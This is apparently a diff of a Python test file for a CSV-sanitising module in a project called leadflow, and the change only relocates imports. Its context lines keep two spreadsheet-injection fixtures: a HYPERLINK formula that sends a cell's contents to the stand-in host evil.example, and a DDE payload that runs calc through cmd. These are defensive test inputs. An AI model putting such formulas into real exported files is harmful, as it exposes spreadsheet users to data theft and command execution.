@@ -10,9 +10,9 @@ import pytest
 from typer.testing import CliRunner
 
 from leadflow.cli import app
-from leadflow.csvsafe import defuse, defuse_cell, is_live_formula
-from leadflow.io import quarantine_path, write_leads, write_quarantine
-from leadflow.settings import SAMPLE_LEADS
+from leadflow.pipeline.csvsafe import defuse, defuse_cell, is_live_formula
+from leadflow.pipeline.io import quarantine_path, write_leads, write_quarantine
+from leadflow.pipeline.settings import SAMPLE_LEADS
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
 DDE = "+cmd|' /C calc'!A0"
